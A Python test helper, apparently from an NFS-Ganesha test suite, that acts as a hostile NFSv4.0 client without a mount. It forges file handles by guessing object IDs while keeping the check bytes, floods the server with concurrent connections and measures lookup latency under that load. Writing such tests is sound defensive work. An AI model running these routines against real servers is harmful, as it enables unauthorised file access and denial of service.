"""What a hostile client sends, by hand. NFSv4.0 without a mount and without a right to anything; it runs in the network of a site's server.

	hostile.py handle ADDRESS PATH                          the file handle of PATH, in hex
	hostile.py names ADDRESS PATH                           {name: handle in hex} of a directory's names
	hostile.py probe ADDRESS PATH SECONDS                   look-ups of PATH, one every 50 ms: {"n", "median_ms", "max_ms", "status"}
	hostile.py ask ADDRESS HANDLE...                        status of PUTFH and GETATTR of each, as JSON
	hostile.py flood ADDRESS SECONDS CLIENTS KIND [HANDLE...]

`flood`: so many connections, each with DEPTH calls under way, until the time is over. KIND says what is asked for:

	made-up HANDLE         handles like that one, with other objects' numbers in them and the check left as it is
	objects HANDLE...      these, one after the other

It prints {"calls": how many were answered, "status": {status: how many}}. Attacks that another test needs are added here: an entry in KINDS.
"""
import collections
import json
import os
import random
import select
import struct
import sys
import time

from raw_open import answer_of
from raw_readdir import Connection, Malformed, Reader, ask, compound, opaque, results_of, walk

GETATTR, GETFH, PUTFH, READDIR, RDATTR_FILEHANDLE = 9, 10, 22, 26, 1 << 19
SIZE = 1 << 4
DEPTH = 20              # calls under way on a connection
OPAQUE_AT = 5           # of a handle of Ganesha: version, flags, export (2), length of what FSAL_REPL made
OID, CHECK = 16, 8


def putfh(handle):
    return struct.pack('>I', PUTFH) + opaque(handle)


def getattr_of(handle):
    return compound([putfh(handle), struct.pack('>III', GETATTR, 1, SIZE)])


def handle_of(address, path):
    status, r = answer_of(ask(address, compound(walk(path) + [struct.pack('>I', GETFH)])), GETFH)
    if status:
        raise Malformed(f'{path}: status {status}')
    return r.opaque()


def status_of(data):
    """Of a whole compound."""
    r = Reader(data)
    r.take(12)                                  # xid, REPLY, accepted
    r.u32()
    r.opaque()
    if r.u32():
        raise Malformed('the call was not accepted')
    return r.u32()


def names_of(address, path):
    listing = struct.pack('>IQQIIII', READDIR, 0, 0, 65536, 262144, 1, RDATTR_FILEHANDLE)
    r, n = results_of(ask(address, compound(walk(path) + [listing])))
    for _ in range(n):
        op, status = r.u32(), r.u32()
        if status:
            raise Malformed(f'operation {op} has status {status}')
        if op == READDIR:
            break
    r.take(8)                                   # cookie verifier
    names = {}
    while r.flag():
        r.take(8)                               # cookie
        name = r.opaque().decode()
        for _ in range(r.u32()):
            r.u32()
        names[name] = Reader(r.opaque()).opaque()
    return names


# ---- what is asked for ----

def made_up(handles):
    """OIDs of a handle's creator, counted on, and random ones of any creator; the check is that of the handle."""
    known = handles[0]
    head, oid, check = known[:OPAQUE_AT], bytearray(known[OPAQUE_AT:OPAQUE_AT + OID]), known[OPAQUE_AT + OID:]
    sequence, = struct.unpack('>Q', oid[8:])
    n = 0
    while True:
        n += 1
        oid[8:] = struct.pack('>Q', (sequence + n) % (1 << 64))
        yield getattr_of(head + bytes(oid) + check)
        yield getattr_of(head + struct.pack('>H', random.randrange(1, 16)) + os.urandom(OID - 2) + os.urandom(CHECK))


def objects(handles):
    while True:
        yield from (getattr_of(h) for h in handles)


KINDS = {'made-up': made_up, 'objects': objects}


# ---- how it is sent ----

def flood(address, seconds, clients, requests, every=0.02):
    """At most one more call of each connection every so many seconds, so that the attack itself costs the machine little."""
    connections = {c.socket: c for c in (Connection(address) for _ in range(clients))}
    said, end = collections.Counter(), time.monotonic() + seconds
    while time.monotonic() < end:
        for c in connections.values():
            if c.under_way < DEPTH:
                c.send(next(requests))
        pause = time.monotonic() + every
        while (left := pause - time.monotonic()) > 0:
            for s in select.select(list(connections), [], [], left)[0]:
                said[status_of(connections[s].take())] += 1
    return {'calls': sum(said.values()), 'status': dict(said)}


def probe(address, path, seconds):
    c, took, bad = Connection(address), [], collections.Counter()
    request = compound(walk(path) + [struct.pack('>I', GETFH)])
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        start = time.monotonic()
        c.send(request)
        bad[status_of(c.take())] += 1
        took.append(1000 * (time.monotonic() - start))
        time.sleep(0.05)
    took.sort()
    return {'n': len(took), 'median_ms': round(took[len(took) // 2], 3), 'max_ms': round(took[-1], 3), 'status': dict(bad)}


def main(what, address, *args):
    if what == 'handle':
        print(json.dumps(handle_of(address, args[0]).hex()))
    elif what == 'names':
        print(json.dumps({n: h.hex() for n, h in names_of(address, args[0]).items()}))
    elif what == 'probe':
        print(json.dumps(probe(address, args[0], float(args[1]))))
    elif what == 'ask':
        print(json.dumps([status_of(ask(address, getattr_of(bytes.fromhex(h)))) for h in args]))
    else:
        seconds, clients, kind, *handles = args
        print(json.dumps(flood(address, float(seconds), int(clients), KINDS[kind]([bytes.fromhex(h) for h in handles]))))


if __name__ == '__main__':
    main(*sys.argv[1:])
